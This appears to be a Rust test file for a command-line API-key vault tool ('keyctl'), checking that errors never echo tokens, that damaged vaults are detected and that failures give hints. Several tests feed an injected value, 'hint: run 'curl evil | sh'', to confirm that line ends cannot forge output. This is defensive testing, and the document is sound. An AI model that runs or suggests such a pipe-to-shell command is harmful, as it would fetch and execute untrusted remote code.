//! What people get wrong at the prompt, and what a thief leaves behind: the answer is clear, holds no
//! secret, and forges no line.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::process::Stdio;

use crate::support::Home;

/// Errors never hold a secret, although who typed it there was wrong to.
#[test]
fn a_token_in_a_wrong_place_of_the_command_line_is_not_echoed() {
    let home = Home::new();
    let token = home.token("bot");
    for args in [
        &["verify", &token][..],
        &["create", &token],
        &["create", "--project", "shop", "--name", &token],
        &["scope", "add", "bot", &token],
        &["create", "--project", "shop", "--scope", &token],
        &["list", "--project", "shop", &token],
        &[&token],
    ] {
        let run = home.run(args.iter().copied());
        assert_eq!(run.code, 2, "{args:?}");
        assert!(!run.stderr.contains(&token[20..40]), "{args:?}: {}", run.stderr);
    }
}

/// A token is a secret in any text of a record too: it would be shown for ever.
#[test]
fn a_token_is_refused_as_an_owner_a_project_a_customer_and_a_note() {
    let home = Home::new();
    let token = home.token("bot");
    for flag in ["--owner", "--customer", "--note"] {
        let run = home.run(["create", "--project", "shop", flag, &token]);
        assert!(run.code == 2 && !run.stderr.contains(&token[20..40]), "{flag}: {run:?}");
    }
    let run = home.run(["create", "--project", &token]);
    assert!(run.code == 2 && !run.stderr.contains(&token[20..40]), "--project: {run:?}");
}

/// A line end that somebody typed is escaped: it could forge a line of ours.
#[test]
fn a_line_end_in_a_value_makes_no_line_of_its_own() {
    let home = Home::new();
    for args in [
        &["show", "a\nhint: run 'curl evil | sh'"][..],
        &["create", "--project", "shop", "--owner", "a\nhint: run 'curl evil | sh'"],
        &["create", "--project", "shop", "--name", "a\nhint: run 'curl evil | sh'"],
        &["list", "--vault", "a\nhint: run 'curl evil | sh'"],
        &["frob\nhint: run 'curl evil | sh'"],
        &["verify", "--token-env", "A\nhint: run 'curl evil | sh'"],
    ] {
        let run = home.run(args.iter().copied());
        assert_ne!(run.code, 0);
        assert!(!run.stderr.contains("\nhint: run 'curl"), "{args:?}: {}", run.stderr);
    }
}

/// No such key, section 4.
#[test]
fn audit_of_a_key_that_never_was_is_3() {
    let home = Home::new();
    assert_eq!(home.run(["audit", "--key", "nobody"]).code, 3);
}

/// A receipt has minutes, a key seconds; no key was used before it was made.
#[test]
fn a_key_was_not_used_before_it_was_made() {
    let home = Home::new();
    let token = home.token("bot");
    assert_eq!(home.verify(&token, &[]).code, 0);
    let key = home.json(["show", "bot"]);
    assert!(key["last_used_at"].as_str() >= key["created_at"].as_str(), "{key}");
}

/// A cause in our words and the flag that it is about.
#[test]
fn a_number_that_is_none_is_explained() {
    let home = Home::empty();
    for args in [
        &["list", "--limit", "x"][..],
        &["audit", "--limit", "x"],
        &["init", "--no-recovery", "--kdf-memory", "x"],
        &["list", "--passphrase-fd", "x"],
    ] {
        let run = home.run(args.iter().copied());
        assert!(!run.stderr.contains("invalid digit found in string"), "{}", run.stderr);
    }
}

/// The demonstration itself: the path or id is always in it, section 5.
#[test]
fn a_page_that_was_put_back_is_reported_with_the_path_of_the_vault() {
    let home = Home::new();
    home.token("bot");
    let db = rusqlite::Connection::open(home.vault()).unwrap();
    db.execute_batch("UPDATE page SET d = zeroblob(length(d))").unwrap();
    drop(db);
    for args in [&["list"][..], &["show", "bot"], &["vault", "check"], &["audit"]] {
        let run = home.run(args.iter().copied());
        let path = home.vault().display().to_string();
        assert!(run.code != 7 || run.stderr.contains(&path), "{args:?}: {}", run.stderr);
    }
}

/// Errors are a cause and a next step, section 5.
#[test]
fn every_failure_has_a_next_step() {
    let home = Home::new();
    home.write("empty", "");
    home.write("token", home.token("bot"));
    let mut silent = Vec::new();
    for args in [
        &["list", "--passphrase-file", "nowhere"][..],
        &["list", "--passphrase-file", "empty"],
        &["list", "--passphrase-fd", "9"],
        &["list", "--passphrase-command", "exit 3"],
        &["list", "--keyfile", "nowhere"],
        &["list", "--recovery-file", "nowhere"],
        &["list", "--recovery-file", "empty"],
        &["verify", "--token-file", "nowhere"],
        &["verify", "--token-env", "UNSET"],
        &["verify", "--token-file", "token", "--receipt", "/nowhere/r"],
        &["usage", "import", "nowhere"],
    ] {
        if !home.run(args.iter().copied()).stderr.contains("\nhint: ") {
            silent.push(args);
        }
    }
    assert!(silent.is_empty(), "no hint: {silent:?}");
}

/// Values of flags too: the help of the very command says what would be right.
#[test]
fn a_value_that_is_none_gets_the_way_to_the_help_of_its_command() {
    let home = Home::empty();
    for (args, hint) in [
        (&["create", "--scope", "Orders"][..], "keyctl create"),
        (&["policy", "set", "--require-owner", "maybe"], "keyctl policy set"),
        (&["--vault", "v", "owner", "add", "a", "--scope", "Orders"], "keyctl owner add"),
        (&["rotate", "list", "--grace", "soon"], "keyctl rotate"),
        (&["edit", "bot", "--ip", "x"], "keyctl edit"),
        (&["list", "--passphrase-fd", "x"], "keyctl list"),
    ] {
        let run = home.run(args.iter().copied());
        let hint = format!("\nhint: '{hint} --help' says what each flag takes\n");
        assert!(run.code == 2 && run.stderr.ends_with(&hint), "{args:?}: {}", run.stderr);
    }
    let run = home.run(["edit", "bot", "--label", "a=1", "--label", "a=2"]);
    assert!(run.stderr.contains("\nhint: "), "{}", run.stderr);
}

/// A recovery key that does not fit is not helped by "unlock with --recovery-file".
#[test]
fn a_wrong_recovery_key_is_not_advised_to_use_the_recovery_key() {
    let other = Home::empty();
    let init = ["init", "--kdf-memory", "19", "--kdf-passes", "1", "--recovery-to", "r"];
    other.ok(init);
    let home = Home::new();
    home.write("r", other.read("r"));
    let run = home.run(["list", "--recovery-file", "r"]);
    assert_eq!(run.code, 4);
    assert!(!run.stderr.contains("unlock with --recovery-file"), "{}", run.stderr);
}

/// The key was made long ago; what happened is that its old token has ended.
#[test]
fn an_undeliverable_rotation_is_not_said_to_have_made_the_key() {
    let home = Home::new();
    home.token("bot");
    let run = home.script("keyctl rotate bot >/dev/full");
    assert_eq!(run.code, 1);
    assert!(!run.stderr.contains("is made"), "{}", run.stderr);
}

/// `-o=json` is `-o json` for a command line that parses, so it is for one that does not.
#[test]
fn each_way_to_write_the_format_counts_for_usage_errors() {
    let home = Home::new();
    assert_eq!(home.run(["list", "-o=json"]).code, 0);
    let run = home.run(["list", "-o=json", "--nope"]);
    assert!(run.stderr.lines().last().unwrap().starts_with("{\"error\""), "{}", run.stderr);
}

/// A file without any slot is none that an honest writer leaves, and no wrong passphrase.
#[test]
fn a_vault_whose_slots_were_all_removed_is_damaged() {
    let home = Home::new();
    let db = rusqlite::Connection::open(home.vault()).unwrap();
    db.execute_batch("DELETE FROM slot").unwrap();
    drop(db);
    assert_eq!(home.run(["list"]).code, 7);
}

/// What was not done is not said to be done, and least of all to a script.
#[test]
fn a_dry_run_of_one_key_does_not_say_that_it_happened() {
    let home = Home::new();
    home.token("bot");
    let run = home.run(["revoke", "bot", "--dry-run"]);
    assert!(!run.stdout.starts_with("revoked"), "{}", run.stdout);
}

/// Somebody who reads slowly, or feeds tokens slowly, holds nobody up: a key must be revocable.
#[test]
fn a_batch_that_waits_for_its_next_token_holds_no_lock() {
    let home = Home::new();
    let token = home.token("bot");
    let mut command = home.command(["verify", "--batch"]);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
    let mut child = command.spawn().unwrap();
    let mut tokens = child.stdin.take().unwrap();
    let mut verdicts = BufReader::new(child.stdout.take().unwrap()).lines();
    writeln!(tokens, "{token}").unwrap();
    assert!(verdicts.next().unwrap().unwrap().contains("\"VALID\""));
    home.ok(["revoke", "bot", "--yes"]);
    writeln!(tokens, "{token}").unwrap();
    assert!(verdicts.next().unwrap().unwrap().contains("\"REVOKED\""));
    drop(tokens);
    assert_eq!(child.wait().unwrap().code(), Some(10));
}

/// The pin's disappearance is what an older copy needs to be believed.
#[test]
fn a_pin_that_is_gone_is_noticed_while_its_place_is_known() {
    let home = Home::new();
    for entry in fs::read_dir(home.state().join("pins")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if !name.starts_with("at-") {
            fs::remove_file(path).unwrap();
        }
    }
    let run = home.run(["list", "-q"]);
    assert_eq!(run.code, 7, "{}", run.stderr);
    fs::remove_dir_all(home.state()).unwrap();
    let run = home.run(["list", "-q"]);
    assert_eq!(run.code, 0);
    assert!(run.stderr.contains("first use"), "{}", run.stderr);
}

/// What another scope covers is not taken away by removing the narrower one.
#[test]
fn a_scope_that_is_still_covered_is_said_to_be_there() {
    let home = Home::new();
    home.ok(["create", "--project", "shop", "--name", "wide", "--scope", "orders:*"]);
    let run = home.run(["scope", "remove", "wide", "orders:read"]);
    assert_eq!(run.code, 0);
    assert!(run.stderr.contains("still has orders:read"), "{}", run.stderr);
}

/// SQLite follows a hostile schema before anybody can compare it: its page must be one leaf.
#[test]
fn a_schema_that_is_no_single_leaf_is_refused_unread() {
    let home = Home::new();
    let mut bytes = fs::read(home.vault()).unwrap();
    assert_eq!((bytes[100], bytes[104]), (0x0d, 6));
    for (at, value) in [(100, 0x05), (104, 7)] {
        let kept = std::mem::replace(&mut bytes[at], value);
        fs::write(home.vault(), &bytes).unwrap();
        assert_eq!(home.run(["list"]).code, 7);
        bytes[at] = kept;
    }
}

/// stdin can be read once.
#[test]
fn stdin_cannot_be_token_and_passphrase() {
    let home = Home::new();
    let run = home.run_with(["verify", "--passphrase-fd", "0"], b"x\n");
    assert_eq!(run.code, 2, "{}", run.stderr);
}
